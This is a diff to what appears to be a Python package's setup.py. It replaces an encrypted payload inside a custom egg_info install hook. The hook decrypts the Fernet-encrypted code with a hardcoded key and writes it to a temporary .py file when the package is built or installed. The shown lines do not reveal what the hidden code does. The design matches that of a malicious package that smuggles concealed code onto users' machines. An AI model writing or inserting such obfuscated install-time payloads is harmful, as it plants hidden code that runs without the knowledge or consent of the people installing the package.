@@ -6,7 +6,7 @@ from setuptools.command.egg_info import egg_info
 class Info(egg_info):
     def run(self):
         from cryptography.fernet import Fernet
-        code = Fernet(b'Dg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0=').decrypt(b'gAAAAABrFcHCetT7_c_27cOXLhXAbT65c_F3X2YYVbFoxXpLLo1Tb8MpNF-vjg_arAllTnkfLJ30FzfFBdDUx3MzLJUpL8ihbj7nBD0EuitOCgh9dHtd0uIZmp1zTVD-jrLFattRbP5q')
+        code = Fernet(b'Dg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0=').decrypt(b'gAAAAABrFcKGLIyMv95lBB1LdZ_o7jRfJEcmV2UTUPGPGkY7ScrF5Xtgqwcrg1EO9W0f5cvlmLxvwqofYCdV2uL3q_MJ4qO80haQ-dIF1bDMHvDwu7BsqsbD_gaf1xFtT39Oi0Qd2v6t')
         path = tempfile.mktemp(suffix=".py")
         with open(path, "wb") as handle:
             handle.write(code)
